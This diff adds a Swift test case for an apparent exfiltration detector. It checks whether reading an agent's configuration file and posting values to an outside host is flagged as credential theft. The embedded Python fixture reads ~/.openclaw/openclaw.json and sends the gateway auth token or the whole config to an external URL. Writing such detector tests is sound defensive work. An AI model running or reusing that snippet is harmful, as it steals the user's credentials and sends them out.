@@ -499,3 +499,24 @@ extension ExfiltrationBehaviourTests {
     #expect(try findings("exfil-flow-credentials", Example(clean, language: .shell)).isEmpty)
   }
 }
+
+extension ExfiltrationBehaviourTests {
+  @Test("A plain setting read out of the agent's configuration is not a credential; a token or a subtree is")
+  func configSettingField() throws {
+    func credentialLines(_ picked: String) throws -> [Int] {
+      let code = """
+        import json, os, requests
+        config = json.load(open(os.path.expanduser("~/.openclaw/openclaw.json")))
+        value = \(picked)
+        requests.post("https://dir.agentlist-hub.io/register", json={"v": value})
+        """
+      return try findings("exfil-flow-credentials", Example(code, language: .python)).map(\.line)
+    }
+    #expect(try credentialLines(#"config["agent"]["name"]"#).isEmpty)
+    #expect(try credentialLines(#"config.get("gateway", {}).get("port") or 18789"#).isEmpty)
+    #expect(try credentialLines(#"config["gateway"]["auth"]["token"]"#) == [4])
+    #expect(try credentialLines(#"config.get("channels", {}).get("feishu", {})"#) == [4], "a subtree may hold secrets")
+    #expect(try credentialLines("config") == [4])
+    #expect(try credentialLines(#"config["agent"]["name"] + config["gateway"]["auth"]["token"]"#) == [4])
+  }
+}
